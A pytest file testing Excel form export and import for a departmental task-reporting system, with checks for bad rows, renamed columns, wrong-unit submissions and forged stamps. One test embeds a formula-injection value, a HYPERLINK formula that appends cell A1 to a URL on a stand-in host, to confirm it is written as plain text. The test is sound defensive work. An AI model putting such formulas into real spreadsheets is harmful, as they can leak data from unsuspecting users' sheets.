"""The spreadsheet round trip: pre-filled form out, filled form in, every bad row named, nothing half-done."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from models import IndicatorReading, StatusUpdate
from tasks.errors import AccessDenied, ValidationFailed
from tasks.rounds.forms import COLUMNS, HEADER_ROW, SHEET, collect_form, write_form
from tasks.rounds.requests import open_round
from tests.status_factories import make_status_scenario


def _fill(path: Path, rows: dict[str, dict[str, object]], header: dict[str, str] | None = None) -> None:
    wb = load_workbook(path)
    ws = wb[SHEET]
    col = {c.value: c.column for c in ws[HEADER_ROW]}
    for r in range(HEADER_ROW + 1, ws.max_row + 1):
        for name, value in rows.get(ws.cell(r, 1).value, {}).items():
            ws.cell(r, col[name], value)
    for old, new in (header or {}).items():
        ws.cell(HEADER_ROW, col[old], new)
    wb.save(path)


@pytest.fixture
def world(session, tmp_path: Path):
    s = make_status_scenario(session)
    round_ = open_round(session, s.plan, "2016Q2", today=date(2016, 7, 1), send=False).round
    return s, round_, tmp_path


def test_form_lists_the_units_tasks_and_reads_back(session, world) -> None:
    s, round_, tmp = world
    path = tmp / "health.xlsx"
    assert write_form(session, s.health, round_, path) == 1
    ws = load_workbook(path)[SHEET]
    assert [c.value for c in ws[HEADER_ROW]] == COLUMNS
    assert ws.cell(HEADER_ROW + 1, 1).value == "T1" and ws.cell(HEADER_ROW + 1, 3).value == "牵头"
    assert ws.cell(HEADER_ROW + 1, 10).value == "患者管理率="
    _fill(path, {"T1": {"状态": "推进中", "完成百分比": 40, "进展情况": "已起草方案", "指标值": "患者管理率=80",
                        "填报人": "李四"}})
    [update] = collect_form(session, path)
    assert (update.channel, update.round_id, update.percent, update.submitted_by) == ("form", round_.id, 40, "李四")
    assert session.exec(select(IndicatorReading)).one().value == 80


def test_an_indicator_dropped_from_the_plan_is_not_asked_for(session, world) -> None:
    """A plan revision that removes an indicator deactivates it: the form no longer asks for its value."""
    s, round_, tmp = world
    s.indicator.active = False
    session.add(s.indicator)
    session.commit()
    path = tmp / "health.xlsx"
    write_form(session, s.health, round_, path)
    assert load_workbook(path)[SHEET].cell(HEADER_ROW + 1, 10).value is None


def test_supporting_unit_gets_the_task_it_supports(session, world) -> None:
    s, round_, tmp = world
    write_form(session, s.finance, round_, tmp / "finance.xlsx")
    ws = load_workbook(tmp / "finance.xlsx")[SHEET]
    assert (ws.cell(HEADER_ROW + 1, 1).value, ws.cell(HEADER_ROW + 1, 3).value) == ("T1", "配合")


def test_percent_140_names_the_row_and_writes_nothing(session, world) -> None:
    s, round_, tmp = world
    path = tmp / "district.xlsx"
    write_form(session, s.districts[0], round_, path)
    _fill(path, {"T3": {"状态": "推进中", "完成百分比": 140, "进展情况": "选址完成"}})
    with pytest.raises(ValidationFailed) as failure:
        collect_form(session, path)
    assert [(p.ref, "0到100" in p.message) for p in failure.value.problems] == [(f"第{HEADER_ROW + 1}行", True)]
    assert session.exec(select(StatusUpdate)).all() == []


def test_renamed_and_missing_columns_are_named(session, world) -> None:
    s, round_, tmp = world
    path = tmp / "health.xlsx"
    write_form(session, s.health, round_, path)
    _fill(path, {"T1": {"状态": "推进中", "进展情况": "x"}}, header={"完成百分比": "完成率"})
    with pytest.raises(ValidationFailed, match="表头") as failure:
        collect_form(session, path)
    messages = " ".join(p.message for p in failure.value.problems)
    assert "缺少列“完成百分比”" in messages and "无法识别的列“完成率”" in messages
    assert session.exec(select(StatusUpdate)).all() == []


def test_form_for_another_unit_is_refused(session, world) -> None:
    s, round_, tmp = world
    path = tmp / "civil.xlsx"
    write_form(session, s.civil, round_, path)
    _fill(path, {"T2": {"状态": "推进中", "进展情况": "x"}})
    with pytest.raises(AccessDenied, match="市民政局"):
        collect_form(session, path, department=s.health)
    assert session.exec(select(StatusUpdate)).all() == []


def test_a_row_for_someone_elses_task_and_a_forged_stamp_are_refused(session, world) -> None:
    s, round_, tmp = world
    path = tmp / "health.xlsx"
    write_form(session, s.health, round_, path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    ws.cell(HEADER_ROW + 1, 1, "T2")
    ws.cell(HEADER_ROW + 1, 5, "推进中")
    ws.cell(HEADER_ROW + 1, 7, "x")
    wb.save(path)
    with pytest.raises(ValidationFailed) as failure:
        collect_form(session, path)
    assert "不是“市卫生计生委”的任务" in failure.value.problems[0].message
    wb["_duban"]["A1"] = wb["_duban"]["A1"].value[:-3] + "xyz"
    wb.save(path)
    with pytest.raises(ValidationFailed, match="标记被修改"):
        collect_form(session, path)


def test_not_a_spreadsheet_is_refused(session, world, tmp_path: Path) -> None:
    bad = tmp_path / "form.xlsx"
    bad.write_text("not a workbook")
    with pytest.raises(ValidationFailed, match="不是有效的"):
        collect_form(session, bad)


def test_form_queries_do_not_grow_with_its_rows(session, world) -> None:
    from sqlalchemy import event

    from tests.factories import make_indicator, make_task

    s, round_, tmp = world
    statements: list[str] = []

    def note(conn, cursor, statement, *args) -> None:
        statements.append(statement)

    engine = session.get_bind()
    event.listen(engine, "before_cursor_execute", note)
    try:
        assert write_form(session, s.finance, round_, tmp / "one.xlsx") == 1
        few = len(statements)
        for n in range(6):
            task = make_task(session, s.plan, f"S{n}", f"配合任务{n}。", lead=[s.civil], support=[s.finance],
                             milestones=[{"label": "2016年", "due_date": date(2016, 6, 30)},
                                         {"label": "2017年", "due_date": date(2017, 6, 30)}])
            make_indicator(session, s.plan, f"指标{n}", task=task, code=f"J{n}")
        session.commit()
        statements.clear()
        assert write_form(session, s.finance, round_, tmp / "seven.xlsx") == 7
    finally:
        event.remove(engine, "before_cursor_execute", note)
    assert len(statements) == few
    ws = load_workbook(tmp / "seven.xlsx")[SHEET]
    row = [ws.cell(HEADER_ROW + 2, c).value for c in (1, 3, 10)]
    assert row == ["S0", "配合", "指标0="] and "2017年" in ws.cell(HEADER_ROW + 2, 4).value


def test_task_text_that_looks_like_a_formula_is_written_as_text(session, world) -> None:
    s, round_, tmp = world
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    s.tasks["T1"].text = hostile
    session.add(s.tasks["T1"])
    session.commit()
    path = tmp / "health.xlsx"
    write_form(session, s.health, round_, path)
    ws = load_workbook(path)[SHEET]
    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
